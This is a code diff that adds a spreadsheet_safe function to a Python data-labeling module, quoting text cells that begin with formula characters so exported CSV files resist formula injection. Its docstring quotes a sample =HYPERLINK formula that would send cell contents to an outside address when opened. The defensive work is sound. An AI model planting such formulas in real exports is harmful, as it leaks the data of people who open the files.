@@ -343,3 +343,30 @@ def likely_label_errors(
     if top is not None:
         frame = frame.head(top)
     return frame.reset_index(drop=True)
+
+
+#: A cell starting with one of these is a formula to Excel, LibreOffice and Google Sheets.
+_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+def spreadsheet_safe(frame: pd.DataFrame) -> pd.DataFrame:
+    """``frame`` with every text cell that a spreadsheet would run as a formula quoted.
+
+    CSV files meant to be opened by people (``errors.csv``, ``label_issues.csv``, the app's
+    history) hold the data's texts; one such as ``=HYPERLINK("http://…?d="&A3)`` would run
+    when the file is opened (security review). A leading ``'`` shows the text as text,
+    the OWASP advice. Files read back by programs (``predict --output``, feedback
+    exports for training) keep their cells byte for byte.
+
+    Example:
+        >>> spreadsheet_safe(pd.DataFrame({"text": ["=1+1", "ok", "-2 nodes"]}))["text"].tolist()
+        ["'=1+1", 'ok', "'-2 nodes"]
+    """
+    out = frame.copy()
+    for column in out.columns:
+        if out[column].dtype == object or pd.api.types.is_string_dtype(out[column]):
+            out[column] = [
+                "'" + v if isinstance(v, str) and v.startswith(_FORMULA_START) else v
+                for v in out[column]
+            ]
+    return out
